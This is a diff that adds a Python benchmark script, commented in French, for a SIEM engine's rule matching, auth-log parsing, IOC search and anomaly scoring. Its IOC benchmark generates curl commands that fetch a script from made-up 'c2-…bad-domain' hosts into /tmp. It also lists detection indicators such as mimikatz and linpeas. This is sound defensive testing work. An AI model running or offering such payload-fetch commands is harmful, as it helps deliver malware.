@@ -0,0 +1,436 @@
+#!/usr/bin/env python3
+"""
+SUSDR 360 - Micro-benchmarks
+Mesure les chemins critiques du moteur (hors API)
+
+Usage: python benchmark_susdr360.py [nom_du_benchmark ...]
+"""
+
+import re
+import sys
+import time
+import types
+import random
+import asyncio
+import logging
+import importlib
+import importlib.util
+from pathlib import Path
+from datetime import datetime, timedelta, timezone
+
+# Ajout du chemin du module
+sys.path.insert(0, str(Path(__file__).parent))
+
+from core.event_processor import Event, EventType, Severity
+from core.correlation_engine import (
+    CorrelationRule, CorrelationRuleType,
+    create_brute_force_rule, create_data_exfiltration_rule
+)
+
+def _load_module(name: str, relative_path: str):
+    """Charge un module autonome de l'API sans importer le package (FastAPI)"""
+    spec = importlib.util.spec_from_file_location(name, Path(__file__).parent / relative_path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+def _load_anomaly_detector():
+    """Charge ai_engine/anomaly_detector.py dans son package, sans exécuter
+    ai_engine/__init__.py qui importe des modules absents de ce dépôt"""
+    root = Path(__file__).parent
+    if str(root.parent) not in sys.path:
+        sys.path.insert(0, str(root.parent))
+    package = types.ModuleType(f"{root.name}.ai_engine")
+    package.__path__ = [str(root / "ai_engine")]
+    sys.modules.setdefault(package.__name__, package)
+    return importlib.import_module(f"{root.name}.ai_engine.anomaly_detector")
+
+def _timeit(func, iterations: int) -> float:
+    """Retourne la durée (secondes) de `iterations` appels à func"""
+    start = time.perf_counter()
+    for _ in range(iterations):
+        func()
+    return time.perf_counter() - start
+
+def _make_event(i: int) -> Event:
+    """Événement synthétique d'authentification ou réseau"""
+    is_auth = i % 2 == 0
+    return Event(
+        id=f"bench_{i}",
+        timestamp=datetime.now(timezone.utc),
+        event_type=EventType.AUTHENTICATION if is_auth else EventType.NETWORK,
+        source="linux_auth" if is_auth else "firewall",
+        severity=Severity.MEDIUM,
+        title="Événement de benchmark",
+        description="",
+        raw_data={},
+        normalized_data={
+            'auth_result': 'failed' if i % 3 else 'success',
+            'src_ip': f"10.0.{i % 256}.{(i * 7) % 256}",
+            'user': f"user{i % 50}",
+            'bytes': (i * 7919) % 3000000,
+            'dst_port': (i * 31) % 65535
+        },
+        enrichment_data={},
+        tags=['linux', 'auth'] if is_auth else ['network']
+    )
+
+def _make_rules() -> list:
+    """Règles couvrant tous les opérateurs de field_conditions"""
+    rules = [create_brute_force_rule(), create_data_exfiltration_rule()]
+    rules.append(CorrelationRule(
+        id="bench_operators",
+        name="Benchmark opérateurs",
+        description="Règle synthétique multi-opérateurs",
+        rule_type=CorrelationRuleType.STATISTICAL,
+        conditions={
+            'event_types': ['authentication', 'network'],
+            'required_tags': ['linux'],
+            'field_conditions': {
+                'normalized_data.src_ip': {'operator': 'regex', 'value': r'^10\.0\.\d+\.\d+$'},
+                'normalized_data.user': {'operator': 'in_list', 'value': [f"user{i}" for i in range(0, 50, 2)]},
+                'normalized_data.dst_port': {'operator': 'less_than', 'value': '60000'},
+                'normalized_data.auth_result': {'operator': 'not_equals', 'value': 'success'}
+            }
+        },
+        time_window=timedelta(minutes=5),
+        threshold=10,
+        severity=Severity.MEDIUM
+    ))
+    for rule in rules:
+        rule.compile()
+    return rules
+
+def bench_rule_matching() -> bool:
+    """Prédicats compilés vs interprétation des conditions"""
+    print("🔍 Benchmark: évaluation des règles de corrélation...")
+    rules = _make_rules()
+    events = [_make_event(i) for i in range(2000)]
+    rounds = 20
+
+    # Les deux chemins doivent donner les mêmes résultats
+    for rule in rules:
+        for event in events:
+            if rule.matches_event(event) != rule.matches_event_interpreted(event):
+                print(f"❌ Divergence pour la règle {rule.id} sur {event.id}")
+                return False
+
+    def run_interpreted():
+        for event in events:
+            for rule in rules:
+                rule.matches_event_interpreted(event)
+
+    def run_compiled():
+        for event in events:
+            for rule in rules:
+                rule.matches_event(event)
+
+    evaluations = rounds * len(events) * len(rules)
+    interpreted = _timeit(run_interpreted, rounds)
+    compiled = _timeit(run_compiled, rounds)
+
+    print(f"📊 {evaluations} évaluations:")
+    print(f"   - Interprété: {evaluations / interpreted:,.0f} évals/s")
+    print(f"   - Compilé:    {evaluations / compiled:,.0f} évals/s")
+    print(f"   - Gain:       x{interpreted / compiled:.1f}")
+    return True
+
+# Ancienne chaîne de regex de parse_linux_auth_message (référence)
+_LEGACY_AUTH_REGEXES = [
+    ("ssh_auth_failed", re.compile(r"Failed password for (invalid user )?(?P<user>\S+) from (?P<src_ip>\d+\.\d+\.\d+\.\d+)")),
+    ("ssh_auth_success", re.compile(r"Accepted (?P<method>password|publickey) for (?P<user>\S+) from (?P<src_ip>\d+\.\d+\.\d+\.\d+)")),
+    ("ssh_invalid_user", re.compile(r"Invalid user (?P<user>\S+) from (?P<src_ip>\d+\.\d+\.\d+\.\d+)")),
+    ("sudo_command", re.compile(r"sudo: (?P<user>\S+) : .*COMMAND=(?P<cmd>.+)$")),
+]
+
+def _legacy_parse_auth(message: str):
+    """Premier motif qui correspond, en essayant toutes les regex à la suite"""
+    for event_kind, regex in _LEGACY_AUTH_REGEXES:
+        m = regex.search(message)
+        if m:
+            groups = m.groupdict()
+            return {
+                "event_kind": event_kind,
+                "src_ip": groups.get("src_ip") or "",
+                "username": groups.get("user") or "",
+                "auth_method": groups.get("method") or ("password" if event_kind == "ssh_auth_failed" else ""),
+                "command": (groups.get("cmd") or "").strip(),
+            }
+    return None
+
+def _make_auth_log(lines: int) -> list:
+    """auth.log synthétique: majorité de lignes sans intérêt, comme en production"""
+    templates = [
+        (40, "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
+        (40, "CRON[{pid}]: pam_unix(cron:session): session closed for user root"),
+        (15, "sshd[{pid}]: Connection closed by {ip} port {port} [preauth]"),
+        (10, "sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
+        (10, "systemd-logind[{pid}]: Session {n} logged out. Waiting for processes to exit."),
+        (8, "sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"),
+        (4, "sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2"),
+        (4, "sshd[{pid}]: Invalid user {user} from {ip} port {port}"),
+        (3, "sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:abc"),
+        (3, "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"),
+        (2, "sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/apt update"),
+        (1, "sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
+        (3, "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1000)"),
+        (2, "systemd-logind[{pid}]: New session {n} of user {user}."),
+        (1, "su: FAILED SU (to root) {user} on pts/1"),
+    ]
+    weights = [w for w, _ in templates]
+    chosen = random.choices([t for _, t in templates], weights=weights, k=lines)
+    return [
+        "Oct 18 10:{:02d}:{:02d} srv01 ".format(i // 60 % 60, i % 60) + template.format(
+            pid=1000 + i % 30000,
+            ip=f"203.0.{i % 256}.{(i * 13) % 256}",
+            port=1024 + i % 60000,
+            user=f"user{i % 40}",
+            n=i,
+        )
+        for i, template in enumerate(chosen)
+    ]
+
+def bench_auth_parser() -> bool:
+    """Table de motifs avec pré-filtre littéral vs chaîne de regex"""
+    print("🔐 Benchmark: parsing des lignes auth.log...")
+    auth_patterns = _load_module("auth_patterns", "api/auth_patterns.py")
+    parse_auth_line = auth_patterns.parse_auth_line
+    lines = _make_auth_log(200000)
+
+    # Tout ce que reconnaissaient les motifs historiques doit l'être à l'identique
+    for line in lines:
+        expected = _legacy_parse_auth(line)
+        if expected is None:
+            continue
+        got = parse_auth_line(line)
+        if got != expected:
+            print(f"❌ Divergence: {line!r} -> {got} (attendu {expected})")
+            return False
+
+    # La copie de la table embarquée dans l'agent Linux doit rester identique
+    agent = _load_module("siem_agent", "../agents/linux/siem_agent.py")
+    agent_rows = [(kind, programs, literal, regex.pattern, method) for kind, programs, literal, regex, method in agent.AUTH_PATTERNS]
+    server_rows = [(p.event_kind, p.programs, p.literal, p.regex.pattern, p.auth_method) for p in auth_patterns.AUTH_PATTERNS]
+    if agent_rows != server_rows:
+        print("❌ Table de motifs de l'agent désynchronisée de api/auth_patterns.py")
+        return False
+    for line in lines[:20000]:
+        if agent.parse_auth_line(line) != parse_auth_line(line):
+            print(f"❌ Divergence agent/serveur: {line!r}")
+            return False
+    # install.sh embarque une copie de l'agent, qui doit lui être identique à l'octet près
+    agents_dir = Path(__file__).parent.parent / "agents" / "linux"
+    install = (agents_dir / "install.sh").read_bytes()
+    embedded = install.split(b"<<'PYEOF'\n", 1)[1].split(b"\nPYEOF\n", 1)[0] + b"\n"
+    if embedded != (agents_dir / "siem_agent.py").read_bytes():
+        print("❌ Copie de siem_agent.py embarquée dans install.sh désynchronisée")
+        return False
+
+    # Lignes traitées à l'identique par les deux: celles que seule la table
+    # reconnaît coûtent une regex de plus, absente de la chaîne historique
+    common = [line for line in lines if _legacy_parse_auth(line) == parse_auth_line(line)]
+
+    def run_legacy(batch):
+        for line in batch:
+            _legacy_parse_auth(line)
+
+    # Ce que coûterait la table complète évaluée en chaîne, sans pré-filtre
+    chained = [(p.event_kind, p.regex) for p in auth_patterns.AUTH_PATTERNS]
+
+    def run_chained():
+        for line in lines:
+            for _, regex in chained:
+                if regex.search(line):
+                    break
+
+    def run_table(batch):
+        for line in batch:
+            parse_auth_line(line)
+
+    # Meilleure de plusieurs passes alternées, pour lisser le bruit de la machine
+    legacy = table = legacy_common = table_common = float("inf")
+    for _ in range(5):
+        legacy = min(legacy, _timeit(lambda: run_legacy(lines), 1))
+        table = min(table, _timeit(lambda: run_table(lines), 1))
+        legacy_common = min(legacy_common, _timeit(lambda: run_legacy(common), 1))
+        table_common = min(table_common, _timeit(lambda: run_table(common), 1))
+    chain = _timeit(run_chained, 1)
+    matched = sum(1 for line in lines if parse_auth_line(line))
+
+    print(f"📊 {len(lines)} lignes ({matched} reconnues, {len(chained)} motifs dans la table):")
+    print(f"   - Chaîne historique ({len(_LEGACY_AUTH_REGEXES)} motifs): {len(lines) / legacy:,.0f} lignes/s")
+    print(f"   - Table en chaîne ({len(chained)} motifs):   {len(lines) / chain:,.0f} lignes/s")
+    print(f"   - Table + pré-filtre:            {len(lines) / table:,.0f} lignes/s")
+    print(f"   - Gain vs table en chaîne:       x{chain / table:.1f}")
+    print(f"   - Gain vs chaîne historique:     x{legacy / table:.2f}")
+    print(f"   - Idem, à travail égal:          x{legacy_common / table_common:.2f} "
+          f"({len(lines) - len(common)} lignes que seule la table reconnaît exclues)")
+    return True
+
+def bench_multi_pattern() -> bool:
+    """Automate Aho-Corasick vs recherche linéaire sur une liste d'IOCs"""
+    print("🧬 Benchmark: recherche multi-motifs (IOCs)...")
+    multi_pattern = _load_module("multi_pattern", "api/multi_pattern.py")
+    iocs = [f"c2-{i}.bad-domain{i % 97}.net" for i in range(5000)]
+    iocs += [f"/tmp/.cache{i}/" for i in range(2000)] + ["mimikatz", "linpeas", "/dev/shm/"]
+    automaton = multi_pattern.AhoCorasick(iocs, case_sensitive=False)
+    lowered = [ioc.lower() for ioc in iocs]
+    commands = [
+        f"/usr/bin/curl -s https://c2-{random.randint(0, 20000)}.bad-domain{random.randint(0, 96)}.net/p.sh -o /tmp/x{i}"
+        for i in range(500)
+    ]
+
+    for command in commands:
+        text = command.lower()
+        if set(automaton.find_all(command)) != {ioc for ioc in lowered if ioc in text}:
+            print(f"❌ Divergence sur {command!r}")
+            return False
+
+    def run_linear():
+        for command in commands:
+            text = command.lower()
+            [ioc for ioc in lowered if ioc in text]
+
+    def run_automaton():
+        for command in commands:
+            automaton.find_all(command)
+
+    linear = _timeit(run_linear, 1)
+    compiled = _timeit(run_automaton, 1)
+    print(f"📊 {len(commands)} commandes x {len(iocs)} motifs:")
+    print(f"   - Recherche linéaire: {len(commands) / linear:,.0f} commandes/s")
+    print(f"   - Aho-Corasick:       {len(commands) / compiled:,.0f} commandes/s")
+    print(f"   - Gain:               x{linear / compiled:.1f}")
+    return True
+
+def _make_endpoint_events(ad, count: int) -> list:
+    """Activité endpoint de bureau régulière, avec un écart tous les 50 événements"""
+    processes = ['explorer.exe', 'svchost.exe', 'winword.exe', 'chrome.exe', 'outlook.exe']
+    monday = datetime(2026, 10, 12, tzinfo=timezone.utc)
+    events = []
+    for i in range(count):
+        unusual = i % 50 == 0
+        if unusual:
+            hour = random.choice([1, 3, 23])
+            process = random.choice(['powershell.exe', 'cmd.exe'])
+            file_path = f"c:\\users\\u{i % 20}\\appdata\\local\\temp\\{i}.ps1"
+            action = 'delete'
+        else:
+            hour = random.randint(9, 17)
+            process = random.choice(processes)
+            file_path = f"c:\\users\\u{i % 20}\\documents\\doc{i % 100}.docx"
+            action = random.choice(['create', 'modify'])
+        events.append(ad.Event(
+            id=f"endpoint_{i}",
+            timestamp=monday + timedelta(days=random.randint(0, 4), hours=hour, minutes=random.randint(0, 59)),
+            event_type=ad.EventType.ENDPOINT,
+            source="windows_sysmon",
+            severity=ad.Severity.HIGH if unusual else ad.Severity.LOW,
+            title="Activité processus",
+            description=f"{process} {action} {file_path}",
+            raw_data={},
+            normalized_data={'process_name': process, 'file_path': file_path, 'action': action},
+            enrichment_data={},
+            tags=['endpoint']
+        ))
+    return events
+
+def bench_anomaly_endpoint() -> bool:
+    """Distance aux échantillons centraux (KD-tree) vs DBSCAN.fit_predict par événement"""
+    print("🧠 Benchmark: scoring d'anomalies endpoint (DBSCAN)...")
+    try:
+        ad = _load_anomaly_detector()
+    except ImportError as e:
+        print(f"⏭️  Dépendances ML absentes ({e}), benchmark ignoré")
+        return True
+    logging.getLogger(ad.__name__).setLevel(logging.ERROR)
+    np = ad.np
+
+    model_name = 'endpoint_dbscan'
+    detector = ad.AnomalyDetector({'retrain_interval': 10**9, 'retrain_after_samples': 10**9})
+    schema = detector._get_feature_schema(model_name)
+    events = _make_endpoint_events(ad, 100000)
+
+    # Entraînement sur les 10000 premiers événements, dans ce processus
+    X_train = schema.extract_batch(events[:10000])
+    scaler, model, index, duration = ad._fit_model(model_name, X_train, detector.model_config)
+    detector._install_model(model_name, scaler, model, index, len(X_train), duration)
+    eps = model.eps
+
+    # Le KD-tree doit trancher comme la distance brute aux échantillons centraux
+    sample = schema.extract_batch(events[:1000])
+    _, flags = detector._score_batch(model_name, sample)
+    for row, flag in zip(scaler.transform(sample), flags):
+        nearest = np.sqrt(((model.components_ - row) ** 2).sum(axis=1)).min()
+        if abs(nearest - eps) > 1e-9 and flag != (nearest > eps):
+            print(f"❌ Divergence KD-tree: distance {nearest:.6f}, eps {eps}")
+            return False
+
+    # Ancien chemin: DBSCAN réentraîné sur chaque vecteur
+    legacy_vectors = scaler.transform(sample)
+    legacy_model = ad.DBSCAN(**detector.model_config['dbscan'])
+
+    def run_legacy():
+        for vector in legacy_vectors:
+            legacy_model.fit_predict([vector])
+
+    X = None
+
+    def run_extract():
+        nonlocal X
+        X = schema.extract_batch(events)
+
+    def run_query():
+        detector._score_batch(model_name, X)
+
+    async def analyze_all():
+        results = await detector.analyze_events(events)
+        await detector.stop()
+        return results
+
+    results = None
+
+    def run_pipeline():
+        nonlocal results
+        results = asyncio.run(analyze_all())
+
+    legacy = _timeit(run_legacy, 1) / len(legacy_vectors)
+    extract = _timeit(run_extract, 1) / len(events)
+    query = _timeit(run_query, 1) / len(events)
+    pipeline = _timeit(run_pipeline, 1) / len(events)
+    anomalies = sum(1 for result in results if result and result.is_anomaly)
+
+    distinct = index.get_arrays()[0].shape[0]
+    print(f"📊 {len(events)} événements endpoint ({len(model.components_)} échantillons centraux, {distinct} distincts, eps={eps}):")
+    print(f"   - fit_predict par événement:    {1 / legacy:,.0f} évts/s")
+    print(f"   - Extraction par colonnes:      {1 / extract:,.0f} évts/s")
+    print(f"   - Requêtes KD-tree par lot:     {1 / query:,.0f} évts/s")
+    print(f"   - Chaîne complète (micro-lots): {1 / pipeline:,.0f} évts/s, {anomalies} anomalies")
+    print(f"   - Gain vs fit_predict:          x{legacy / pipeline:.1f}")
+    return True
+
+BENCHMARKS = [
+    ("rules", bench_rule_matching),
+    ("auth", bench_auth_parser),
+    ("patterns", bench_multi_pattern),
+    ("anomaly", bench_anomaly_endpoint),
+]
+
+def main() -> int:
+    """Fonction principale"""
+    selected = sys.argv[1:]
+    random.seed(42)
+
+    failures = 0
+    for name, bench_func in BENCHMARKS:
+        if selected and name not in selected:
+            continue
+        print(f"{'='*60}")
+        if not bench_func():
+            failures += 1
+        print()
+
+    return 1 if failures else 0
+
+if __name__ == "__main__":
+    sys.exit(main())